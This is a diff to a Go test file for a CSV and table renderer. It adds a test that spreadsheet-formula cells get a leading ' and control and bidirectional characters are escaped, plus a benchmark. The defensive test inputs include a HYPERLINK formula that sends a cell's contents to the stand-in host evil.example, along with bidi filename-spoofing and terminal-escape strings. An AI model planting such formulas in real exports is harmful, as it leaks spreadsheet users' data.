@@ -2,8 +2,10 @@ package render
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"io"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -44,7 +46,7 @@ func TestCSVAndTable(t *testing.T) {
 		{"csv", &c, "A,B\n\"x,y\",\n"},
 		{"table", &tb, "A    B\nx,y  -\n"},
 	} {
-		w, err := NewRows(tc.buf, tc.format)
+		w, err := NewRows(tc.buf, tc.format, RowsOptions{})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -84,7 +86,7 @@ func TestEscape(t *testing.T) {
 // cannot overwrite cells on a terminal, and wide characters count twice.
 func TestTableEscapesAndAlignsByDisplayWidth(t *testing.T) {
 	var b bytes.Buffer
-	w, err := NewRows(&b, "table")
+	w, err := NewRows(&b, "table", RowsOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -128,5 +130,111 @@ func TestJSONStreamAbort(t *testing.T) {
 	}
 	if len(doc.Assignments) != 1 || doc.Error != "access denied" {
 		t.Errorf("got %+v; want one item and the error", doc)
+	}
+}
+
+// TestCSVCellsAreSafeForSpreadsheets: a cell a spreadsheet would read as a
+// formula gets a ' in front (OWASP), control and bidirectional characters
+// are escaped as tables escape them, Changed counts the cells changed, and
+// ExactCSV (--csv-raw) writes every value as it is.
+func TestCSVCellsAreSafeForSpreadsheets(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"+cmd@example.com",
+		"-2+3",
+		"@SUM(A1:A9)",
+		"\t=1+1",
+		"\r=1+1",
+		"ops\u202etxt.exe",
+		"\x1b[2Jgone",
+		"alice.johnson", // left alone
+		"",
+		"a-b=c",     // a formula character inside is harmless
+		"'=already", // a leading ' is kept as it is
+	}
+	want := []string{
+		`'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"'+cmd@example.com",
+		"'-2+3",
+		"'@SUM(A1:A9)",
+		`\t=1+1`,
+		`\r=1+1`,
+		`ops\u202etxt.exe`,
+		`\x1b[2Jgone`,
+		"alice.johnson",
+		"",
+		"a-b=c",
+		"'=already",
+	}
+	for i, in := range hostile {
+		got, changed := SafeCell(in)
+		if got != want[i] || changed != (got != in) {
+			t.Errorf("SafeCell(%q) = %q, %v; want %q, %v", in, got, changed, want[i], want[i] != in)
+		}
+	}
+
+	var safe, exact bytes.Buffer
+	for _, tc := range []struct {
+		buf         *bytes.Buffer
+		opts        RowsOptions
+		wantChanged int
+		wantCells   []string
+	}{
+		{&safe, RowsOptions{}, 8, want},
+		{&exact, RowsOptions{ExactCSV: true}, 0, hostile},
+	} {
+		w, err := NewRows(tc.buf, "csv", tc.opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_ = w.Header([]string{"name", "n"})
+		for _, h := range hostile {
+			if err := w.Row([]string{h, "1"}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		if w.Changed() != tc.wantChanged {
+			t.Errorf("%+v: Changed() = %d; want %d", tc.opts, w.Changed(), tc.wantChanged)
+		}
+		recs, err := csv.NewReader(tc.buf).ReadAll()
+		if err != nil {
+			t.Fatalf("%+v: the CSV does not parse: %v", tc.opts, err)
+		}
+		var got []string
+		for _, r := range recs[1:] {
+			got = append(got, r[0])
+		}
+		if diff := cmp.Diff(tc.wantCells, got); diff != "" {
+			t.Errorf("%+v: cells read back (-want +got):\n%s", tc.opts, diff)
+		}
+	}
+}
+
+// BenchmarkCSVRows writes audit-like rows (eight cells of names, e-mail
+// addresses and ids, none of them hostile) through the CSV writer, made
+// safe (the default) and exact (--csv-raw): what making cells safe costs a
+// large audit.
+func BenchmarkCSVRows(b *testing.B) {
+	row := []string{"alice.johnson@example.com", "alice.johnson", "123456789012", "payments-prod", "AdministratorAccess",
+		"GROUP", "b4c704e312-e642a1f3-5e3c-4f7b-9f38-3d0a1c2b4e5f", "platform-admins"}
+	for _, tc := range []struct {
+		name string
+		opts RowsOptions
+	}{{"safe", RowsOptions{}}, {"exact", RowsOptions{ExactCSV: true}}} {
+		b.Run(tc.name, func(b *testing.B) {
+			w, _ := NewRows(io.Discard, "csv", tc.opts)
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				if err := w.Row(row); err != nil {
+					b.Fatal(err)
+				}
+			}
+			if err := w.Flush(); err != nil {
+				b.Fatal(err)
+			}
+		})
 	}
 }
